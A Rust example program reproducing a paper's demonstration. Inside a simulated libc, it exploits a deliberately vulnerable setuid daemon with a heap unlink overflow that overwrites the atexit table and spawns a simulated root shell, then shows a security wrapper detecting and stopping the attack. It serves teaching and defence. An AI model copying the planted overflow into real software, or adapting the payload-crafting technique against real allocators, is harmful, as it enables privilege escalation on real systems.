//! The paper's §3.4 demonstration: "It first shows that an attacker can
//! hijack the control flow of a root privileged program by overflowing a
//! buffer allocated on the heap. This results in a root shell for the
//! attacker. ... Then we show that our security wrapper can detect such
//! buffer overflows and terminate the attacker's program."
//!
//! ```sh
//! cargo run --release --example heap_smash
//! ```
//!
//! The victim is a setuid-root "request daemon" with a classic bug: it
//! `fread`s up to 256 bytes of request into a 64-byte heap buffer. The
//! attack overflows into the adjacent free chunk's boundary tags so that
//! `free()`'s unlink macro writes the payload's address over the `atexit`
//! handler table; `exit()` then jumps into the attacker's shellcode.

use healers::injector::{run_campaign, targets_from_simlibc, CampaignConfig};
use healers::interpose::{Executable, Session};
use healers::simlibc::state::ATEXIT_TABLE;
use healers::simproc::{CVal, Fault, SHELLCODE_MAGIC};
use healers::{process_factory, Toolkit, WrapperConfig, WrapperKind};

/// The victim's `atexit` logger (innocent cleanup code).
fn logger(p: &mut healers::simproc::Proc, _args: &[CVal]) -> Result<CVal, Fault> {
    p.kernel.stdout.extend_from_slice(b"[netd] clean shutdown\n");
    Ok(CVal::Void)
}

/// The vulnerable daemon. The bug: `fread(session, 1, 256, req)` into a
/// 64-byte allocation.
fn netd_entry(s: &mut Session<'_>) -> Result<i32, Fault> {
    let banner = s.literal("[netd] accepting request");
    s.call("puts", &[CVal::Ptr(banner)])?;

    // Open the request first (the FILE object is allocated before the
    // session buffers, so the grooming below stays adjacent). The handle
    // is never closed — the daemon leaks it, like so many did.
    let path = s.literal("request.bin");
    let mode = s.literal("rb");
    let f = s.call("fopen", &[CVal::Ptr(path), CVal::Ptr(mode)])?;
    if f.is_null() {
        let msg = s.literal("[netd] no request");
        s.call("puts", &[CVal::Ptr(msg)])?;
        s.call("exit", &[CVal::Int(1)])?;
    }

    // Allocation pattern: session next to a freed spare chunk.
    let session = s.malloc(64)?;
    let spare = s.malloc(64)?;
    let _pin = s.malloc(16)?;
    s.call("free", &[CVal::Ptr(spare)])?;

    // The info leak every 2003 daemon had somewhere in its logs.
    let fmt = s.literal("[netd] session buffer at %p\n");
    s.call("printf", &[CVal::Ptr(fmt), CVal::Ptr(session)])?;

    // Register innocent cleanup.
    let logger_addr = s.proc().register_host_fn("netd_logger", logger);
    s.call("atexit", &[CVal::Ptr(logger_addr)])?;

    // Process the request: THE BUG — up to 256 bytes into 64.
    s.call("fread", &[CVal::Ptr(session), CVal::Int(1), CVal::Int(256), f])?;

    // Done with the session.
    s.call("free", &[CVal::Ptr(session)])?;
    s.call("exit", &[CVal::Int(0)])?;
    unreachable!("exit does not return")
}

fn netd(request: Option<Vec<u8>>) -> Executable {
    let mut exe = Executable::new(
        "netd",
        &["libsimc.so.1"],
        &["puts", "printf", "malloc", "free", "atexit", "fopen", "fread", "fclose", "exit"],
        netd_entry,
    )
    .setuid();
    // Ship the request file with the executable description by installing
    // it via a tiny pre-main: we wrap entry to install the file first.
    // (The simulated kernel has no shared filesystem between runs.)
    exe.entry = match request {
        Some(_) => netd_with_attack_entry,
        None => netd_with_benign_entry,
    };
    // Stash the request where the pre-main entries can find it.
    *REQUEST.lock().unwrap() = request;
    exe
}

static REQUEST: std::sync::Mutex<Option<Vec<u8>>> = std::sync::Mutex::new(None);

fn netd_with_benign_entry(s: &mut Session<'_>) -> Result<i32, Fault> {
    s.proc().kernel.install_file("request.bin", b"GET /status".to_vec());
    netd_entry(s)
}

fn netd_with_attack_entry(s: &mut Session<'_>) -> Result<i32, Fault> {
    let payload = REQUEST.lock().unwrap().clone().expect("attack payload");
    s.proc().kernel.install_file("request.bin", payload);
    netd_entry(s)
}

/// Crafts the unlink payload for a session buffer at `session_addr`.
///
/// Layout (offsets from the session buffer):
/// ```text
///   0..16   clobbered by unlink/insert — the "jump over" bytes
///  16..27   SHELLCODE_MAGIC (the simulated payload)
///  27..64   filler
///  64..72   spare chunk's prev_size  (don't care)
///  72..80   spare chunk's size|flags (must stay 80|PREV_INUSE)
///  80..88   spare chunk's fd  = &atexit_slot0 - 8
///  88..96   spare chunk's bk  = session buffer address
/// ```
/// `free(session)` forward-coalesces with the "free" spare chunk and
/// unlink performs `*(fd+8) = bk` — writing the session address over the
/// atexit slot — and `*bk = fd`, clobbering the payload's first 8 bytes
/// (hence the magic at offset 16).
fn craft_payload(session_addr: u64) -> Vec<u8> {
    let mut p = vec![0x90u8; 96];
    p[16..16 + SHELLCODE_MAGIC.len()].copy_from_slice(SHELLCODE_MAGIC);
    p[64..72].copy_from_slice(&0u64.to_le_bytes());
    p[72..80].copy_from_slice(&(80u64 | 1).to_le_bytes());
    p[80..88].copy_from_slice(&(ATEXIT_TABLE.get() - 8).to_le_bytes());
    p[88..96].copy_from_slice(&session_addr.to_le_bytes());
    p
}

fn parse_leaked_address(stdout: &str) -> u64 {
    let line = stdout.lines().find(|l| l.contains("session buffer at")).expect("info leak");
    let hex = line.rsplit("0x").next().expect("hex");
    u64::from_str_radix(hex.trim(), 16).expect("address")
}

fn main() {
    let toolkit = Toolkit::new();

    println!("== Phase 1: reconnaissance (benign request, read the log) ==\n");
    let recon = toolkit.run(&netd(None)).expect("links");
    println!("{}", recon.stdout);
    let session_addr = parse_leaked_address(&recon.stdout);
    println!("attacker learned: session buffer at {session_addr:#x}\n");

    println!("== Phase 2: the attack against the unprotected daemon ==\n");
    let payload = craft_payload(session_addr);
    let owned = toolkit.run(&netd(Some(payload.clone()))).expect("links");
    println!("{}", owned.stdout);
    println!("daemon status: {:?}", owned.status);
    println!("root shell spawned: {}", owned.shell_spawned);
    assert!(
        owned.shell_spawned,
        "the unlink attack must hijack control flow on the unprotected daemon"
    );
    println!("\n*** the attacker owns the box ***\n");

    println!("== Phase 3: the same attack against the security wrapper ==\n");
    let campaign = run_campaign(
        "libsimc.so.1",
        &targets_from_simlibc(),
        process_factory,
        &CampaignConfig::default(),
    );
    let wrapper = toolkit.generate_wrapper(
        WrapperKind::Security,
        &campaign.api,
        &WrapperConfig {
            // Keep the last calls in a flight recorder so the fault
            // report shows what the daemon was doing when it died.
            flight_recorder: Some(8),
            ..WrapperConfig::default()
        },
    );
    println!(
        "security wrapper interposes {} functions (canaries on the allocator family)\n",
        wrapper.len()
    );
    let protected =
        toolkit.run_protected(&netd(Some(payload)), &[&wrapper]).expect("links");
    println!("{}", protected.stdout);
    println!("daemon status: {:?}", protected.status);
    println!("root shell spawned: {}", protected.shell_spawned);
    assert!(
        matches!(protected.status, Err(Fault::SecurityViolation { .. })),
        "the wrapper must detect the overflow and terminate the process"
    );
    assert!(!protected.shell_spawned, "no shell for the attacker");

    let fault = protected.status.as_ref().unwrap_err().to_string();
    println!(
        "{}",
        healers::profiler::render_fault_report("netd", &fault, &wrapper.journal.tail())
    );
    println!("*** attack detected, process terminated before the hijack ***");
}
